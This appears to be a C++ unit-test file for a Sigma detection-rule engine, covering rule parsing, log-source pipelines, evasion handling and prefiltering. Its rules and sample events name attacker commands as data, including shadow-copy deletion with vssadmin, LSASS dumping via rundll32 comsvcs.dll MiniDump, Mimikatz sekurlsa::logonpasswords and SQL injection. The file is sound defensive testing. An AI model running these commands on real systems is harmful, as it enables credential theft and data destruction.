    sel: {Image|endswith: '\whoami.exe'}
    condition: sel
)");
  ASSERT_EQ(s.rules().rules().size(), 1u);
  const Rule& r = s.rules().rules()[0];
  EXPECT_EQ(r.id, "929a690e-bef0-4204-a928-ef5e620d6fcc");
  EXPECT_EQ(r.title, "Whoami");
  EXPECT_EQ(r.severity, Severity::Critical);
  EXPECT_EQ(r.author, "Florian Roth");
  EXPECT_EQ(r.category, "process_creation");
  ASSERT_EQ(r.tactics.size(), 1u);
  EXPECT_EQ(r.tactics[0].id, "TA0007");
  EXPECT_EQ(r.tactics[0].name, "Discovery");
  ASSERT_EQ(r.techniques.size(), 1u);
  EXPECT_EQ(r.techniques[0].id, "T1033");
  EXPECT_EQ(r.techniques[0].name, "System Owner/User Discovery");
  EXPECT_EQ(r.tags.size(), 4u) << "tags the tables do not know are kept as tags";
}

TEST(SigmaPipeline, LogSourcesAreGuardsWithRenames) {
  const std::string rule = R"(title: Whoami
id: w
logsource: {category: process_creation, product: windows}
detection:
    sel:
        Image|endswith: '\whoami.exe'
    condition: sel
---
title: Whoami by name
id: w2
logsource: {category: process_creation, product: windows}
detection:
    sel:
        OriginalFileName: 'whoami.exe'
    condition: sel
---
title: Attrib by image or name
id: w3
logsource: {category: process_creation, product: windows}
detection:
    sel_img:
        - Image|endswith: '\attrib.exe'
        - OriginalFileName: 'ATTRIB.EXE'
    sel_cli:
        CommandLine|contains: ' +h '
    filter:
        OriginalFileName: 'legit.exe'
    condition: all of sel_* and not filter
)";
  SigmaRig s(rule, SigmaRig::Options{.pipeline = "nxlog"});
  // Sysmon 1 and Security 4688 are both process creation; 4688 names the image NewProcessName.
  EXPECT_EQ(s.match(R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\x\\whoami.exe","OriginalFileName":"whoami.exe"})"),
            (Ids{"w", "w2"}));
  EXPECT_EQ(s.match(R"({"Channel":"Security","EventID":4688,"NewProcessName":"C:\\x\\whoami.exe"})"), Ids{"w"});
  EXPECT_EQ(s.match(R"({"Channel":"security","EventID":4688,"NewProcessName":"C:\\x\\whoami.exe"})"), Ids{"w"})
      << "channel names compare without case";
  EXPECT_EQ(s.match(R"({"Channel":"Security","EventID":4688,"Image":"C:\\x\\whoami.exe","OriginalFileName":"whoami.exe"})"),
            Ids{}) << "4688 has no OriginalFileName: w2 has no 4688 variant";
  EXPECT_EQ(s.match(R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":3,"Image":"C:\\x\\whoami.exe"})"),
            Ids{}) << "a network connection is not a process creation";
  // A rule that names a field 4688 lacks still runs on 4688: the field reads as missing.
  EXPECT_EQ(s.match(R"({"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\System32\\attrib.exe","CommandLine":"attrib +h x"})"),
            Ids{"w3"});
  SigmaRig evtx(rule, SigmaRig::Options{.pipeline = "evtx_json"});
  EXPECT_EQ(evtx.match(R"({"Event":{"System":{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1},"EventData":{"Image":"C:\\x\\whoami.exe"}}})"),
            Ids{"w"});
  EXPECT_EQ(evtx.match(R"({"Event":{"System":{"Channel":"System","EventID":{"#text":1,"#attributes":{"Qualifiers":16384}}},"EventData":{"Image":"C:\\x\\whoami.exe"}}})"),
            Ids{});
}

TEST(SigmaPipeline, UserPipelineAndUnmappedLogSources) {
  const std::string pipeline = R"(name: mine
fields: {CommandLine: [process.command_line, cmd], event.type: event.type}
field_template: "data.{}"
unmapped: skip
logsources:
  - logsource: {product: linux, category: process_creation}
    conditions: {event.type: exec}
)";
  const std::string rules = R"(title: curl
id: c
logsource: {product: linux, category: process_creation}
detection:
    sel:
        CommandLine|contains: 'curl '
        User: root
    condition: sel
---
title: web
id: web
logsource: {category: webserver}
detection:
    sel: {cs-uri-query|contains: 'union select'}
    condition: sel
)";
  SigmaRig s(rules, SigmaRig::Options{.pipeline = pipeline});
  EXPECT_EQ(s.match(R"({"event":{"type":"exec"},"process":{"command_line":"curl x"},"data":{"User":"root"}})"), Ids{"c"});
  EXPECT_EQ(s.match(R"({"event":{"type":"exec"},"cmd":"curl x","data":{"User":"root"}})"), Ids{"c"}) << "a list is any of";
  EXPECT_EQ(s.match(R"({"event":{"type":"open"},"cmd":"curl x","data":{"User":"root"}})"), Ids{});
  EXPECT_EQ(s.rules().stats().loaded, 1u);
  ASSERT_EQ(s.rules().stats().skipped.size(), 1u);
  EXPECT_EQ(s.rules().stats().skipped.begin()->second, 1u) << "the webserver rule is not for this pipeline";
}

TEST(SigmaPipeline, BadPipelineFailsWithPosition) {
  TempDir d;
  auto p = d.write("p.yaml", "name: x\nlogsources:\n  - {logsource: {product: windows}, condtions: {A: 1}}\n");
  try {
    sigma::load_pipeline(p.string(), d.path());
    FAIL() << "loaded";
  } catch (const ConfigError& e) {
    EXPECT_EQ(e.where().line, 3);
    EXPECT_NE(e.message().find("did you mean 'conditions'"), std::string::npos) << e.what();
  }
  EXPECT_THROW(sigma::load_pipeline("no-such-pipeline", d.path()), ConfigError);
}

TEST(SigmaEvasion, CaseAndDashesAndPadding) {
  auto s = one(R"(    sel:
        Image|endswith: '\vssadmin.exe'
        CommandLine|windash|contains|all:
            - 'delete'
            - 'shadows'
            - ' -all'
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"Image":"C:\\Windows\\SYSTEM32\\VSSADMIN.EXE","CommandLine":"vssadmin DELETE SHADOWS /ALL /quiet"})"));
  EXPECT_TRUE(s.hits(
      std::string(R"({"Image":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":")") + std::string(100000, ' ') +
      R"(vssadmin delete shadows )" + "\xE2\x80\x94" + R"(all"})"))
      << "padding does not push the payload out of reach";
}

TEST(SigmaPrefilter, SameMatchesWithAndWithout) {
  // The bundled corpus over the bundled sample: the prefilter may only skip rules
  // that cannot match, so both runs give the same (event, rule) pairs.
  const auto dir = source_dir() / "config";
  std::string events = read_file(dir / "samples/windows-events.jsonl");
  auto load = [&](bool prefilter) {
    std::vector<sigma::Refusal> refused;
    auto files = sigma::expand_rule_paths({dir / "sigma/rules/windows", dir / "sigma/rules-emerging-threats",
                                           dir / "sigma/rules-threat-hunting"},
                                          refused);
    auto parsed = sigma::load_rules(files, refused);
    sigma::CompileOptions o;
    o.prefilter = prefilter;
    return std::make_shared<const sigma::RuleSet>(parsed, sigma::load_pipeline("nxlog", dir), o);
  };
  auto with = load(true), without = load(false);
  ASSERT_GT(with->stats().loaded, 2000u);
  EXPECT_LT(with->stats().always, with->stats().variants / 20) << "most variants have a literal to prefilter on";
  sigma::Evaluator a(with), b(without);
  Diagnostics diag;
  YAML::Node n = YAML::Load("{fields: all}");
  Settings st(n, "parse", "inline.yaml", dir, &diag);
  JsonParse parse(st);
  Arena arena;
  size_t events_seen = 0, matches = 0;
  std::vector<sigma::Match> ma, mb;
  for (size_t at = 0; at < events.size();) {
    size_t end = std::min(events.find('\n', at), events.size());
    std::string_view line(events.data() + at, end - at);
    at = end + 1;
    Event e;
    std::string_view detail;
    if (parse.parse(line, e, arena, detail)) continue;
    ++events_seen;
    a.match(e, ma);
    b.match(e, mb);
    ASSERT_EQ(ma.size(), mb.size()) << line.substr(0, 300);
    for (size_t i = 0; i < ma.size(); ++i) EXPECT_EQ(ma[i].rule, mb[i].rule);
    matches += ma.size();
  }
  EXPECT_GT(events_seen, 2000u);
  EXPECT_GT(matches, 50u) << "the sample holds attack activity the corpus detects";
  EXPECT_LT(a.evaluated() * 20, b.evaluated()) << "the prefilter evaluates a small share of the variants";
}

TEST(SigmaExplain, SelectionsAndValues) {
  auto s = one(R"(    selection_img:
        Image|endswith: '\rundll32.exe'
    selection_cli:
        CommandLine|contains: 'comsvcs'
    filter:
        User: 'SYSTEM'
    condition: all of selection_* and not filter)");
  ASSERT_TRUE(s.hits(R"({"Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32 comsvcs.dll MiniDump","User":"bob"})"));
  EXPECT_EQ(s.explain(),
            R"({"selections":["selection_img","selection_cli"],"fields":{"Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32 comsvcs.dll MiniDump"}})");
}

TEST(SigmaPrefilter, KeywordsInArrays) {
  // The keyword prefilter reads an array element by element, as the test does.
  const std::string rule = R"(title: Mimikatz
id: mk
logsource: {product: windows}
detection:
    keywords:
        - 'sekurlsa::'
    condition: keywords
)";
  for (bool prefilter : {true, false}) {
    SigmaRig s(rule, SigmaRig::Options{.pipeline = "nxlog", .prefilter = prefilter});
    EXPECT_EQ(s.match(R"({"Channel":"x","Message":["start","sekurlsa::logonpasswords"]})"), Ids{"mk"}) << prefilter;
    EXPECT_EQ(s.match(R"({"Channel":"x","Message":["start","nothing"]})"), Ids{}) << prefilter;
  }
}
